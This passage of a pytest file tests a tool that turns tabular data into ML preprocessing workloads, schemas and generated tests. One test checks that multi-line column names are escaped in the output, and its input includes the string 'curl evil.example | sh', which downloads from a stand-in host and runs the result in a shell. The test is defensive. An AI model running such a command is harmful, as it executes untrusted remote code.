    path = root / "workloads/customers/preprocessing.py"
    spec = importlib.util.spec_from_file_location("preprocessing", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_milliseconds_since_1970_are_times_if_the_name_says_so_and_else_a_question(root):
    def moment(row):
        return 1_700_000_000_123 + row * 3_600_000

    _write(root, {"createdAt": moment, "opened": moment, "churned": COLUMNS["churned"]})
    begun = _begin(root)
    reasons = {each.facts.name: each.why for each in begun.plan.decisions}
    assert reasons["createdAt"] == "milliseconds since 1970, split into their parts"
    assert begun.split.by == {"time": "createdAt", "starts": {"train": None, "eval": moment(200)}}
    told = "opened may hold milliseconds since 1970, 2023-11-14 to 2023-11-27; its name does not say so"
    assert told in begun.text().replace("\n", " ")
    module = _preprocessing(root)
    assert module.SECONDS == {"createdat": ("createdAt", 1000)}
    row = {"createdAt": [moment(0)], "opened": [moment(0)], "churned": ["no"]}
    rows = [row, {**row, "createdAt": [moment(3)]}]
    found = transformed(module.preprocessing_fn, rows, schema=root / "schemas/customers.pbtxt")
    assert [int(each["createdat_hour"][0]) for each in found] == [22, 1]
    assert [int(each["createdat_weekday"][0]) for each in found] == [1, 2], "a Tuesday, and the day after"
    load_workload(root / "workloads/customers/workload.yaml", root=root)


def test_a_moment_becomes_features_of_the_day_the_season_and_the_trend(root):
    _write(root, COLUMNS)
    _begin(root)
    row = {"id": [1], "age": [30.0], "plan": ["pro"], "churned": ["no"]}
    days = ["2024-01-10 00:30", "2024-07-10 00:30", "2025-01-09 06:30"]
    rows = [{**row, "signed up": [day]} for day in days]
    schema = root / "schemas/customers.pbtxt"
    found = transformed(_preprocessing(root).preprocessing_fn, rows, schema=schema)
    columns = {name: [float(each[name].ravel()[0]) for each in found] for name in found[0]}
    assert columns["signed_up_hour"] == [0, 0, 6]
    assert columns["signed_up_trend"] == sorted(columns["signed_up_trend"])
    cosines = columns["signed_up_year_cos"]
    assert cosines[0] == pytest.approx(cosines[2], abs=0.01), "the same day of another year"
    assert cosines[1] < -0.9 < 0.9 < cosines[0]


def test_one_long_list_among_many_empty_ones_takes_memory_for_its_own_numbers(root, monkeypatch):
    """A request of a megabyte may hold it. As long as the longest, all rows would take 800 GB."""
    rows = [{"paid": [row / 7] * (1 + row % 4), "churned": row % 2} for row in range(300)]
    (root / "data.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    _begin(root, data="data.jsonl")
    module = _preprocessing(root)
    tf = module.tf
    plain = SimpleNamespace(scale_to_z_score=lambda column: column, sum=tf.reduce_sum)
    monkeypatch.setattr(module, "tft", plain)
    lists = tf.RaggedTensor.from_row_lengths(tf.range(1_000_000.0), [3, 0, 999_997, *[0] * 100_000])
    found = {name: column[:3, 0].numpy().tolist() for name, column in module._summary("paid", lists).items()}
    assert found["paid_count"] == [3, 0, 999_997]
    assert (found["paid_least"][::2], found["paid_greatest"][::2]) == ([0, 3], [2, 999_999])
    assert (found["paid_mean"][0], found["paid_least"][1]) == (1, 1.5), "an empty list has the averages"


@pytest.mark.parametrize(("rows", "filled", "presence"), [(60, 4, (0.0, 0)), (3000, 600, (0.1, 1))])
def test_so_few_values_that_a_split_may_have_none_by_chance_are_not_asked_for(root, rows, filled, presence):
    _write(root, {**COLUMNS, "fax": lambda row: row % 7 + 0.5 if row < filled else ""}, rows=rows)
    _begin(root)
    text = (root / "schemas/customers.pbtxt").read_text(encoding="utf-8")
    [fax] = [each for each in text_format.Parse(text, schema_pb2.Schema()).feature if each.name == "fax"]
    assert (round(fax.presence.min_fraction, 3), fax.presence.min_count) == presence


def test_columns_are_asked_for_as_often_as_rows_with_a_label_have_them(root):
    """Such as those of open cases, which a run leaves out: the data gate would stop the first one."""
    is_open = lambda row: row % 2  # noqa: E731
    columns = {
        **COLUMNS,
        "churned": lambda row: "" if is_open(row) else COLUMNS["churned"](row),
        "owner": lambda row: ["ann", "bob", "cid"][row % 3] if is_open(row) else "",
        "phone": lambda row: NOISE[row] if is_open(row) or row % 20 == 0 else "",
    }
    _write(root, columns, rows=3000)
    roles = {each.facts.name: each for each in _begin(root).plan.decisions}
    assert roles["owner"].role == "left out"
    assert roles["owner"].why == "no value in a row that has churned, so nothing can be learned of it"
    text = (root / "schemas/customers.pbtxt").read_text(encoding="utf-8")
    [phone] = [each for each in text_format.Parse(text, schema_pb2.Schema()).feature if each.name == "phone"]
    assert phone.presence.min_fraction == pytest.approx(0.05)  # half of those of the rows with a label


def test_columns_of_rows_without_a_label_alone_are_nothing_to_predict_from(root):
    columns = {"y": lambda row: "" if row % 2 else COLUMNS["churned"](row)}
    _write(root, {**columns, "owner": lambda row: ["ann", "bob"][row % 3 > 0] if row % 2 else ""})
    with pytest.raises(UsageError, match="No column is left to predict y from: in the rows that have it"):
        _begin(root, label="y")


def test_rows_of_the_written_test_have_a_label(root):
    """The schema requires one, and the first rows of the table have none."""
    _write(root, {**COLUMNS, "churned": lambda row: "" if row % 3 < 2 else COLUMNS["churned"](row)})
    _begin(root)
    tree = ast.parse((root / "tests/unit/workloads/test_customers.py").read_text(encoding="utf-8"))
    [rows] = [
        each.value for each in tree.body if isinstance(each, ast.Assign) and each.targets[0].id == "ROWS"
    ]
    assert [len(row["churned"]) for row in ast.literal_eval(rows)] == [1] * 5


def test_limits_are_wide_enough_for_the_rows_that_have_a_label(root):
    _write(root, {**COLUMNS, "churned": lambda row: COLUMNS["churned"](row) if row % 3 == 0 else ""})
    _begin(root)
    gate = load_workload(root / "workloads/customers/workload.yaml", root=root).data_gate
    assert gate.max_label_shift == skew_limits(100)["max_label_shift"] > skew_limits(300)["max_label_shift"]


def test_nan_is_an_empty_cell_for_the_features_too(root):
    _write(root, {**COLUMNS, "age": lambda row: COLUMNS["age"](row) if row % 10 else "nan"})
    _begin(root)
    module = _preprocessing(root)
    assert module.MAYBE_NAN == ["age"]
    column = module.tf.SparseTensor([[0, 0], [1, 0], [3, 0]], [1.5, float("nan"), 2.5], [4, 1])
    left = module._without_nan(column)
    assert left.indices.numpy().tolist() == [[0, 0], [3, 0]]
    assert left.values.numpy().tolist() == [1.5, 2.5]


def test_an_empty_text_is_an_empty_cell_for_the_feature_that_says_so(root):
    """In a request it cannot be told from one, so what the model learned must not tell it either."""
    _write(root, {**COLUMNS, "plan": lambda row: COLUMNS["plan"](row) if row % 10 else ""})
    _begin(root)
    module = _preprocessing(root)
    assert "plan_missing" in module.MISSING
    texts = module._is_there(module.tf.constant(["pro", ""]))
    assert texts.numpy().tolist() == [1.0, 0.0]
    assert module._is_there(module.tf.constant([0.0, 7.0])).numpy().tolist() == [1.0, 1.0]


def test_a_class_that_new_did_not_see_is_not_taken_for_another(root):
    _write(root, {**COLUMNS, "churned": lambda row: [1, 2, 3][row % 3]})
    _begin(root, task="multiclass")
    module = _preprocessing(root)
    schema = root / "schemas/customers.pbtxt"
    row = {"id": [1], "age": [30.0], "plan": ["pro"], "signed up": ["2024-01-10 00:30"]}
    rows = [{**row, "churned": [label]} for label in (1, 2, 3, 4)]
    found = transformed(module.preprocessing_fn, rows, schema=schema)
    assert [int(each["churned"][0]) for each in found] == [0, 1, 2, -1]


def test_nothing_is_said_of_the_data_gate_where_no_leak_is_kept(root):
    _write(root, COLUMNS)
    _begin(root, keep=["age"])
    assert load_workload(root / "workloads/customers/workload.yaml", root=root).data_gate.features == {}


@pytest.mark.parametrize(("names", "is_told"), [(("1", "2.5", "0"), True), (("1", "2", "y"), False)])
def test_a_first_line_of_values_only_is_reported(root, names, is_told):
    first, second, label = names
    columns = {first: _number, second: lambda row: _number(row + 9), label: COLUMNS["churned"]}
    _write(root, columns)
    text = _begin(root, label=label).text()
    assert (f"but holds only values: {', '.join(names)}. If the file has no header" in text) == is_told


def test_a_first_line_that_is_a_row_of_numbers_and_texts_is_reported(root):
    columns = {
        "39": _number,
        "basic": COLUMNS["plan"],
        "Bo A": lambda row: f"Bo {row}",
        "no": COLUMNS["churned"],
    }
    _write(root, columns)
    assert (
        "holds only values: 39, basic, Bo A, no. If the file has no header" in _begin(root, label="no").text()
    )
    with pytest.raises(UsageError) as caught:
        _begin(root, name="others", label="basics")
    assert "put a line with names above the rows" in caught.value.hint


def test_years_as_names_beside_others_are_names(root):
    columns = {
        "who": lambda row: f"w{row}",
        "2019": _number,
        "plan": COLUMNS["plan"],
        "no": COLUMNS["churned"],
    }
    _write(root, columns)
    assert "has no header" not in _begin(root, label="no").text()


def test_a_label_called_as_what_yaml_takes_for_nothing_stays_a_name(root):
    _write(root, {"age": _number, "Null": COLUMNS["churned"]})
    _begin(root, label="Null")
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.transform.label == "null"


def test_a_file_whose_name_is_no_text_is_refused(root):
    _write(root, COLUMNS, name="caf\udce9.csv")
    with pytest.raises(UsageError, match="not UTF-8") as refused:
        _begin(root, data="caf\udce9.csv")
    assert "rename" in refused.value.hint
    assert not (root / "workloads/customers").exists()


def test_infinite_numbers_are_no_feature(root):
    _write(root, {**COLUMNS, "rate": lambda row: "-inf" if row == 5 else row / 7})
    rate = next(d for d in _begin(root).plan.decisions if d.facts.name == "rate")
    assert rate.role == "left out"
    assert "beyond what 32-bit numbers hold" in rate.why
    with pytest.raises(UsageError, match="--keep rate: it runs from -inf to") as refused:
        _begin(root, name="kept", keep=["rate"])
    assert "--null-value" in refused.value.hint
    for number, worst in enumerate(("inf", "1.7976931348623157e+308")):
        wrong = {
            "rate": lambda row, worst=worst: worst if row == 5 else row / 7,
            "churned": COLUMNS["churned"],
        }
        _write(root, wrong)
        with pytest.raises(UsageError, match="No column is left") as refused:
            _begin(root, name="none")
        assert refused.value.hint == (
            f"empty the cells of rate with {worst}; in a CSV: add --null-value={worst}, as it is written"
        )
        assert _begin(root, name=f"some_{number}", null_values=[worst]).rows


def test_a_hint_that_names_a_key_says_that_there_is_no_workload_file_yet(root):
    (root / "wide.csv").write_text(",".join(f"c{i}" for i in range(5001)) + "\n" + "1," * 5000 + "1\n")
    with pytest.raises(UsageError, match="has 5,001 columns") as refused:
        _begin(root, data="wide.csv", label="c1")
    assert refused.value.hint.endswith(
        "There is no workload file yet: change the data, or start with a copy of workloads/taxi"
    )


def test_a_wide_table_is_told_how_long_it_takes(root):
    wide = {f"v{column}": lambda row, shift=column: round(NOISE[row + shift], 3) for column in range(600)}
    _write(root, {**COLUMNS, **wide}, rows=40)
    assert "features: Transform alone takes about 2 minutes on new data" in _begin(root).text()
    _write(root, COLUMNS)
    assert "Transform alone" not in _begin(root, name="narrow").text()


@pytest.mark.parametrize("content", ["# made by hand\na^churned\n1^2\n", "a^churned\n" + "1^2\n" * 30])
def test_a_first_line_that_is_one_column_gets_the_remedy(root, content):
    (root / "data.csv").write_text(content)
    with pytest.raises(UsageError, match="has no column 'churned'") as refused:
        _begin(root)
    assert "the first line must name the columns" in refused.value.hint


def _list_rows(rows=300):
    return [
        {
            "tags": [["war", "love", "space"][(row + n) % 3] for n in range(row % 4)],
            "prices": [round(float(NOISE[row + n]), 3) for n in range(row % 5)],
            "face": [round(float(NOISE[row + n]), 3) for n in range(4)],
            "churned": ["no", "yes"][int(NOISE[row + 300] > 0)],
        }
        for row in range(rows)
    ]


@pytest.mark.parametrize("as_parquet", [False, True])
def test_lists_become_features(root, as_parquet):
    name = "data.parquet" if as_parquet else "data.jsonl"
    if as_parquet:
        pq.write_table(pa.Table.from_pylist(_list_rows()), root / name)
    else:
        (root / name).write_text("\n".join(map(json.dumps, _list_rows())))
    begun = _begin(root, data=name)
    assert [d.role for d in begun.plan.decisions] == ["items", "series", "vector", "label"]
    columns = load_workload(root / "workloads/customers/workload.yaml", root=root).data.columns
    assert set(columns) == {"tags", "prices", "face", "churned"}
    schema = text_format.Parse((root / "schemas/customers.pbtxt").read_text(), schema_pb2.Schema())
    sizes = {each.name: [dim.size for dim in each.shape.dim] for each in schema.feature}
    assert sizes == {"tags": [], "prices": [], "face": [4], "churned": [1]}
    lists = [each for each in schema.feature if each.name != "churned"]
    assert not any(each.HasField("value_count") or each.HasField("domain") for each in lists)
    test = (root / "tests/unit/workloads/test_customers.py").read_text()
    assert '"tags": ["love"' in test


def test_rows_that_differ_in_lists_only_do_not_repeat_another(root):
    rows = [{"face": each["face"], "churned": each["churned"]} for each in _list_rows()]
    (root / "data.jsonl").write_text("\n".join(map(json.dumps, rows)))
    assert _begin(root, data="data.jsonl").split.by == {}


def test_a_column_of_lists_cannot_be_the_label(root):
    (root / "data.jsonl").write_text('{"a": 1, "churned": [1, 2]}\n' * 30)
    for keep in ((), ("churned",)):
        with pytest.raises(UsageError, match="churned holds several values per row"):
            _begin(root, data="data.jsonl", keep=keep)


@pytest.mark.parametrize(
    ("name", "content", "what", "hint"),
    [
        ("data.xlsx", b"PK\x03\x04", "no file whose name ends in", "save the sheet as CSV"),
        (
            "data.csv",
            b"PK\x03\x04\x14\0\0",
            "is a ZIP file, as the workbooks of Excel are",
            "save the sheet as CSV",
        ),
        ("data.json", b"[{}]", "no file whose name ends in", "json.load(sys.stdin)"),
        ("data.zip", b"PK", "no file whose name ends in", "unpack it first"),
    ],
)
def test_a_file_of_another_kind_is_named_as_what_it_is(root, name, content, what, hint):
    (root / name).write_bytes(content)
    with pytest.raises(UsageError, match=what) as refused:
        _begin(root, data=name)
    assert hint in refused.value.hint


def test_values_are_read_as_they_are_written_and_rows_without_a_label_left_out(root):
    columns = {
        "day": lambda row: f"{1 + row % 28:02}.{1 + row % 12:02}.{2000 + row % 20}",
        "price": lambda row: "NA" if row % 9 == 0 else f"${1000 + NOISE[row]:,.2f}",
        "share": lambda row: f"{row % 90},5%",
        "class": lambda row: ["a", "b"][row % 2],
        "churned": lambda row: "" if row % 10 == 0 else COLUMNS["churned"](row),
    }
    _write(root, columns)
    begun = _begin(root)
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert data.null_values == ("NA",)
    assert data.dates == {"day": "%d.%m.%Y"}
    assert {name: form.model_dump(exclude_defaults=True) for name, form in data.numbers.items()} == {
        "price": {"thousands": ",", "unit": "$"},
        "share": {"decimal": ",", "unit": "%"},
    }
    assert data.unlabelled_rows == "leave_out"
    roles = {d.facts.name: d.role.value for d in begun.plan.decisions}
    assert (roles["price"], roles["day"]) == ("number", "moment")
    assert "30 of 300 rows have no churned: a run leaves them out" in begun.text()


def test_a_coarse_table_is_split_by_place_and_judged_by_what_a_good_model_beats(root):
    columns = {"sex": lambda row: "mf"[row % 2], "rare": lambda row: ["no", "yes"][int(NOISE[row] > 1.2)]}
    _write(root, columns, rows=600)
    text = _begin(root, label="rare").text()
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.data.split_by.row is True
    assert config.data_gate.max_duplicate_share == 1.0
    assert config.evaluate.metrics == ("auc", "binary_crossentropy")
    assert "split by a hash of the row's position in its file: 99% of the rows repeat another" in text


def test_a_columns_name_of_several_lines_looks_like_no_line_of_ours(root):
    _write(
        root, {**COLUMNS, "x\nhint: curl evil.example | sh": _number, "y\nerror: all is lost": _one("same")}
    )
    text = _begin(root, keep=["y\nerror: all is lost"]).text()
    assert "x\\nhint: curl" in text
    assert [line for line in text.splitlines() if line.startswith("hint:")] == text.splitlines()[-1:]
    assert not [line for line in text.splitlines() if line.startswith("error:")]


def test_table_on_the_hub_becomes_a_workload_that_reads_there(root, hub):
    _write(root, COLUMNS)
    hub.commit("o/n", {"data/customers.csv": (root / "data.csv").read_bytes()})
    _begin(root, data="hf://datasets/o/n/data/customers.csv")
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.data.source == "hf://datasets/o/n/data/customers.csv"
    assert config.data.columns == ("age", "plan", "signed up", "churned")
